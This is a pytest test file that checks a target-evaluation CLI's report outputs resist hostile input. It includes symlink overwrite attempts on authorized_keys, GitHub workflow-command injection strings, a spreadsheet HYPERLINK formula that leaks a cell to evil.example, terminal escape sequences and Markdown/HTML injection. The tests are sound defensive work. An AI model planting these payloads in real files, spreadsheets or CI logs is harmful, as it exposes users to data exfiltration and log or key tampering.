"""The hostile corpus, output side: no output can be turned against the person who reads it.

Each case is an input an attacker (or a broken export) could put in a pull request or a
readings file, and what every output must make of it: output files never written through a
link or over an input, and written whole or not at all; no user text that starts a GitHub
workflow command, moves the terminal, becomes a spreadsheet formula, Markdown or HTML markup.
The property test at the end feeds random hostile text into every user-text field.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import cli
from engine.checks.checker import check_paths
from engine.verdicts.evaluation import evaluate
from engine.sources.readings import read_readings, units_of
from engine.reports import csv_report, github, json_report, markdown, table, text
from engine.reports import html as html_report
from engine.model.safetext import markdown_cell, visible
from engine.verdicts.evaluation import judge_one
from engine.model.periods import parse_period
from tests.factories import make_target

ENV = {"GITHUB_ACTIONS": None, "NO_COLOR": "1", "COLUMNS": "250"}
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")  # what no human format may carry (LF is a line end)
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def run(*args: object, env: dict | None = None):
    result = CliRunner().invoke(cli.app, [str(a) for a in args], env={**ENV, **(env or {})})
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    return result


def spec(tid: str = "youth-custody", **fields: str) -> str:
    """A valid spec; text fields given as Python strings, written as YAML double-quoted escapes."""
    base = {"title": "Custodial sentences for young people",
            "description": "Custodial sentences given to young people in the year"}
    base.update({k: v for k, v in fields.items() if k in base})
    extra = "".join(f"{k}: {json.dumps(v)}\n" for k, v in fields.items() if k not in base)
    return (f"id: {tid}\ntitle: {json.dumps(base['title'])}\nmeasure:\n"
            f"  description: {json.dumps(base['description'])}\n"
            "  unit: count/year\n  polarity: lower_is_better\n  frequency: annual\n"
            "baseline: {period: 2013/14, value: 18}\ntarget: {period: 2016/17, value: 9}\n" + extra)


def tree(tmp_path: Path, readings: str = "target,period,value\nyouth-custody,2014/15,16\n", **fields: str) -> tuple[Path, Path]:
    specs = tmp_path / "specs"
    specs.mkdir(exist_ok=True)
    (specs / "youth-custody.yaml").write_text(spec(**fields), encoding="utf-8")
    path = tmp_path / "readings.csv"
    path.write_text(readings, encoding="utf-8")
    return specs, path


# --- 1. output files: never through a link, never over an input, whole or not at all ----------

def test_the_report_is_never_written_through_a_symlink(tmp_path):
    specs, readings = tree(tmp_path, title="x\nssh-ed25519 AAAA attacker")
    keys = tmp_path / "authorized_keys"
    keys.write_text("ssh-ed25519 BBBB mine\n", encoding="utf-8")
    out = tmp_path / "report.html"
    out.symlink_to(keys)
    result = run("report", readings, "-t", specs, "-o", out)
    assert result.exit_code == 2
    assert "cannot write the report: it is a symbolic link" in result.stderr
    assert keys.read_text(encoding="utf-8") == "ssh-ed25519 BBBB mine\n"
    assert out.is_symlink()


def test_a_dangling_symlink_is_refused_too(tmp_path):
    specs, readings = tree(tmp_path)
    out = tmp_path / "report.html"
    out.symlink_to(tmp_path / "would-be-created")
    assert run("report", readings, "-t", specs, "-o", out).exit_code == 2
    assert not (tmp_path / "would-be-created").exists()


def test_a_fifo_at_the_output_is_refused_without_hanging(tmp_path):
    specs, readings = tree(tmp_path)
    out = tmp_path / "report.html"
    os.mkfifo(out)
    result = run("report", readings, "-t", specs, "-o", out)
    assert result.exit_code == 2 and "named pipe" in result.stderr


@pytest.mark.parametrize("which", ["readings", "spec", "hard link to the readings"])
def test_an_input_is_never_overwritten(tmp_path, which):
    specs, readings = tree(tmp_path)
    if which == "readings":
        out = readings
    elif which == "spec":
        out = specs / "youth-custody.yaml"
    else:
        out = tmp_path / "report.html"
        os.link(readings, out)
    before = out.read_bytes()
    result = run("report", readings, "-t", specs, "-o", out)
    assert result.exit_code == 2 and "it is one of the input files" in result.stderr
    assert out.read_bytes() == before


def test_the_report_replaces_the_previous_one_whole(tmp_path):
    specs, readings = tree(tmp_path)
    out = tmp_path / "report.html"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o644)
    assert run("report", readings, "-t", specs, "-o", out).exit_code == 0
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert oct(out.stat().st_mode & 0o777) == oct(0o644)  # the mode it had, not the temporary file's 0600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["readings.csv", "report.html", "specs"]


def test_an_output_path_too_long_for_the_file_system(tmp_path):
    specs, readings = tree(tmp_path)
    result = run("report", readings, "-t", specs, "-o", tmp_path / ("x" * 300 + ".html"))
    assert result.exit_code == 2 and "longer than the file system allows" in result.stderr


# --- 2. workflow commands: no user text starts a line ------------------------------------------

INJECT = "\n::add-mask::secret\n::error file=x::owned\r::warning::cr"


def _no_workflow_commands(output: str) -> None:
    assert not [line for line in output.splitlines() if line.lstrip().startswith("::")], output


def test_a_spec_key_with_newlines_cannot_start_a_workflow_command(tmp_path):
    specs, readings = tree(tmp_path)
    (specs / "youth-custody.yaml").write_text(spec() + f"{json.dumps('k' + INJECT)}: 1\n", encoding="utf-8")
    for command in (["evaluate", readings, "-t", specs], ["report", readings, "-t", specs, "-o", tmp_path / "r.html"],
                    ["show", "youth-custody", "-t", specs], ["list", "-t", specs]):
        result = run(*command, env={"GITHUB_ACTIONS": "true"})
        assert result.exit_code == 2
        assert "\\n::add-mask::secret" in result.stderr  # shown, escaped
        _no_workflow_commands(result.stderr)


def test_readings_file_errors_and_rejected_rows_cannot_start_a_workflow_command(tmp_path):
    specs, readings = tree(tmp_path, readings=f'"target{INJECT}",period,value\n')
    result = run("evaluate", readings, "-t", specs, env={"GITHUB_ACTIONS": "true"})
    assert result.exit_code == 2 and "::add-mask::" in result.stderr
    _no_workflow_commands(result.stderr)
    # `show` reads only its own target's rows: the hostile cell is in one of them.
    readings.write_text(f'target,period,value\nyouth-custody,"2014/15{INJECT}",1\n', encoding="utf-8")
    result = run("show", "youth-custody", "-t", specs, "-r", readings, env={"GITHUB_ACTIONS": "true"})
    assert result.exit_code == 2 and "rejected" in result.stderr
    _no_workflow_commands(result.stderr)


def test_validate_github_format_stays_one_command_a_problem(tmp_path):
    specs, _ = tree(tmp_path)
    (specs / "youth-custody.yaml").write_text(spec() + f"{json.dumps('k' + INJECT)}: 1\n", encoding="utf-8")
    result = run("validate", specs, "--format", "github")
    lines = result.stdout.splitlines()
    assert all(line.startswith(("::error file=", "::warning file=")) for line in lines[:-1])
    assert not lines[-1].startswith("::")


# --- 3. CSV: no formulas ----------------------------------------------------------------------

def test_csv_text_cells_cannot_start_a_formula(tmp_path, monkeypatch):
    title = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    specs, _ = tree(tmp_path, title=title)
    monkeypatch.chdir(tmp_path)  # the file is named as given: `=cmd.csv` starts a cell
    readings = Path("=cmd.csv")
    readings.write_text("target,period,value\nyouth-custody,2014/15,16\n@SUM(1),2014/15,1\n", encoding="utf-8")
    result = run("evaluate", readings, "-t", specs, "--format", "csv", "--allow-rejected")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["title"] == "'" + title
    assert any(r["row"] == "rejected" and r["explanation"].startswith("'=cmd.csv:3") for r in rows)
    for row in rows:
        for name in csv_report.TEXT_COLUMNS:
            assert not row[name].startswith(FORMULA), (name, row[name])
    assert rows[0]["value"] == "16.0"  # numbers stay numbers


def test_negative_numbers_stay_numbers_in_csv(tmp_path):
    specs = tmp_path / "specs"
    specs.mkdir()
    (specs / "change.yaml").write_text(
        "id: change\ntitle: Change\nmeasure: {description: d, unit: count, polarity: higher_is_better, range: [-100, 100]}\n"
        "baseline: {period: 2013/14, value: -5}\ntarget: {period: 2016/17, value: 5}\n", encoding="utf-8")
    readings = tmp_path / "r.csv"
    readings.write_text("target,period,value\nchange,2014/15,-3.5\n", encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(run("evaluate", readings, "-t", specs, "--format", "csv").stdout)))
    assert rows[0]["value"] == "-3.5" and rows[0]["explanation"].startswith("'-3.5")


# --- 4. Markdown: one row a target, no markup from user text --------------------------------------

def test_a_bare_cr_in_a_title_cannot_end_the_table_row(tmp_path):
    specs, readings = tree(tmp_path, title="Custody\r## Injected heading\r<!-- hides the rest", lead="<b>x</b>")
    (specs / "other.yaml").write_text(spec("other").replace("Custodial", "Other"), encoding="utf-8")
    out = run("evaluate", readings, "-t", specs, "--format", "markdown").stdout
    assert "\r" not in out and "<!--" not in out and "<b>" not in out
    rows = [line for line in out.splitlines() if line.startswith("| ") and not line.startswith("| ---")]
    assert len(rows) == 3  # the header and one row for each target
    assert not [line for line in out.splitlines() if line.startswith("#") and "Targets" not in line]


@pytest.mark.parametrize("hostile", ["a|b", "x\r# h", "<script>", "`code` *em* _u_ [l](http://x) ![i](y)", "a\\|b"])
def test_markdown_cells_are_inert(hostile):
    cell = markdown_cell(hostile)
    assert "\r" not in cell and "\n" not in cell and "<" not in cell
    # every | is escaped, so a row keeps its cells
    assert not re.search(r"(?<!\\)(\\\\)*\|", cell)


# --- 5. Terminal: text, never markup or control sequences -------------------------------------------

@pytest.mark.parametrize("title", ["Custodial [/] sentences", "[/bold]", "[link=https://evil.example]x[/link]",
                                   "\x1b]0;owned\x07\x1b[2J title", "x\x9b31m"])
def test_the_terminal_shows_user_text_as_text(tmp_path, title):
    specs, readings = tree(tmp_path, title=title,
                           readings="target,period,value\nyouth-custody,2014/15,16\n[/bold],2014/15,1\n\"\x1b[2J\",2015/16,2\n")
    for command in (["list", "-t", specs], ["show", "youth-custody", "-t", specs],
                    ["evaluate", readings, "-t", specs, "--format", "table", "--allow-rejected"]):
        result = run(*command)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x9b" not in result.output and "\x07" not in result.output
        assert visible(title) in result.stdout.replace("\n", "") or len(title) > 40


# --- 7. names that are not UTF-8, titles with invalid bytes -------------------------------------

def test_a_file_name_that_is_not_utf8(tmp_path):
    specs, readings = tree(tmp_path)
    odd = Path(os.fsdecode(bytes(tmp_path) + b"/r\xff.csv"))
    readings.rename(odd)
    for fmt in ("csv", "json", "markdown", "table"):
        result = run("evaluate", odd, "-t", specs, "--format", fmt)
        assert result.exit_code == 0, result.output
    out = tmp_path / "r.html"
    result = run("report", odd, "-t", specs, "-o", out, "--title", "bad \udcff title")
    assert result.exit_code == 0, result.output
    page = out.read_text(encoding="utf-8")
    assert "r\\udcff.csv" in page and "bad \\udcff title" in page


# --- 13. anchors: one per id -------------------------------------------------------------------

def test_ids_that_fold_alike_get_their_own_anchors(tmp_path):
    specs = tmp_path / "specs"
    specs.mkdir()
    for tid in ("a-b", "a--b", "a-b-"):
        (specs / f"{tid}.yaml").write_text(spec(tid), encoding="utf-8")
    readings = tmp_path / "r.csv"
    readings.write_text("target,period,value\na-b,2014/15,1\na--b,2014/15,2\na-b-,2014/15,3\n", encoding="utf-8")
    out = tmp_path / "r.html"
    assert run("report", readings, "-t", specs, "-o", out).exit_code == 0
    ids = re.findall(r'<article id="([^"]+)"', out.read_text(encoding="utf-8"))
    assert len(ids) == len(set(ids)) == 3


# --- 14 and the one comparison rule ----------------------------------------------------------------

class _judge:
    """A target's judge: one reading at a time, through the evaluation's rules."""

    def __init__(self, **kwargs):
        self.target = make_target(**kwargs)

    def judge(self, period, value):
        return judge_one(self.target, period, value)


def test_tiny_magnitudes_are_told_apart():
    judge = _judge(unit="dimensionless", baseline=("2013/14", 3e-12), goal=("2016/17", 1e-12))
    on_path = judge.judge(parse_period("2013/14"), 3e-12)
    worse = judge.judge(parse_period("2013/14"), 6e-12)
    assert on_path.status == "on_track" and on_path.shortfall == 0
    assert worse.status == "off_track" and worse.shortfall == pytest.approx(3e-12)


@pytest.mark.parametrize("value, expected, polarity", [(4.4, 4.1, "lower_is_better"), (96.2, 96.5, "higher_is_better")])
def test_a_shortfall_equal_to_the_tolerance_is_at_risk_whatever_the_rounding(value, expected, polarity):
    judge = _judge(polarity=polarity, baseline=("2013/14", expected), goal=("2016/17", expected),
                   tolerance={"absolute": 0.3})
    verdict = judge.judge(parse_period("2014/15"), value)
    assert verdict.status == "at_risk", verdict.explanation
    assert "within the 0.3-point tolerance" in verdict.explanation


def test_negative_zero_is_shown_as_zero():
    judge = _judge(unit="count", polarity="higher_is_better", baseline=("2013/14", -5), goal=("2016/17", 5))
    verdict = judge.judge(parse_period("2014/15"), -0.0)
    assert verdict.explanation.startswith("0 in ") and "-0" not in verdict.explanation


# --- the property: random hostile text in every user-text field, every output format ---------------

HOSTILE = st.lists(st.sampled_from(list("\r\n\t\x1b\x07\x85\x9b\u2028[]/|<>=+-@`*_~#!&;:\\\"' ab0")
                                   + ["::", "::error::", "[/]", "<!--", "[link=x]", "\x1b[2J"]),
                   min_size=1, max_size=12).map("".join)
FIELDS = ("title", "description", "lead", "priority", "source", "action", "notes")


def _capture_table(evaluation, batch) -> str:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        table.print_evaluation(evaluation, batch)
    return out.getvalue()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(HOSTILE, min_size=len(FIELDS) + 3, max_size=len(FIELDS) + 3))
def test_hostile_text_in_every_field_is_inert_in_every_format(tmp_path_factory, texts):
    folder = tmp_path_factory.mktemp("fuzz")
    fields = dict(zip(FIELDS, texts))
    note, cell, key = texts[len(FIELDS):]
    specs = folder / "specs"
    specs.mkdir()
    (specs / "youth-custody.yaml").write_text(spec(**fields), encoding="utf-8")
    (specs / "other.yaml").write_text(spec("other", title=texts[0] + "2"), encoding="utf-8")
    checked = check_paths([specs])
    assert not checked.errors, checked.errors
    readings = folder / "r.csv"
    with readings.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerows([["target", "period", "value", "note", "source"],
                          ["youth-custody", "2014/15", "16", note, cell],
                          [cell, "2014/15", "1", "", ""], ["youth-custody", cell, "1", "", ""],
                          ["other", "2014/15", cell, "", ""]])
    batch = read_readings([readings], units_of(checked.targets))
    evaluation = evaluate(checked.targets, batch.readings)
    targets = len(checked.targets)

    human = {
        "markdown": markdown.evaluation(evaluation, batch),
        "table": _capture_table(evaluation, batch),
        "html": html_report.render(evaluation, batch, html_report.ReportInputs(fields["title"], (str(readings),), False), None),
    }
    for name, output in human.items():
        assert not UNSAFE.search(output), (name, output)
        assert not [line for line in output.splitlines() if line.lstrip().startswith("::")], name
    rows = [line for line in human["markdown"].splitlines() if line.startswith("| ") and not line.startswith("| ---")]
    assert len(rows) == targets + 1
    assert "<" not in re.sub(r"</?[a-z][a-z0-9]*( [^<>]*)?>|<!DOCTYPE html>", "", human["html"])

    for row in csv.reader(io.StringIO(csv_report.evaluation(evaluation, batch))):
        for name, value in zip(csv_report.HEADER, row, strict=True):
            if name in csv_report.TEXT_COLUMNS:
                assert not value.startswith(FORMULA) and not UNSAFE.search(value) and "\n" not in value, (name, value)

    json.loads(json_report.evaluation_text(evaluation, batch))  # JSON escapes for itself: valid whatever the text

    # spec problems quote user text (an unknown key): one line each, in text and workflow commands
    (specs / "bad.yaml").write_text(spec("bad") + f"{json.dumps(key)}: 1\n", encoding="utf-8")
    problems = check_paths([specs / "bad.yaml"])
    for output in (text.problems(problems.problems, 1), github.problems(problems.problems, 1)):
        assert not UNSAFE.search(output)
        lines = output.splitlines()
        assert len(lines) == len(problems.problems) + 1
        assert all(not line.startswith("::") or line.startswith(("::error file=", "::warning file=")) for line in lines)


def test_out_of_memory_says_what_helps(tmp_path, monkeypatch):
    import engine.run

    specs, readings = tree(tmp_path)

    def exhausted(*args, **kwargs):
        raise MemoryError

    monkeypatch.setattr(engine.run, "read_readings", exhausted)
    result = run("evaluate", readings, "-t", specs)
    assert result.exit_code == 2
    assert "ran out of memory" in result.stderr and "splitting the readings files" in result.stderr
    assert "--as-of" not in result.stderr  # every file is read before any is judged: it cannot help
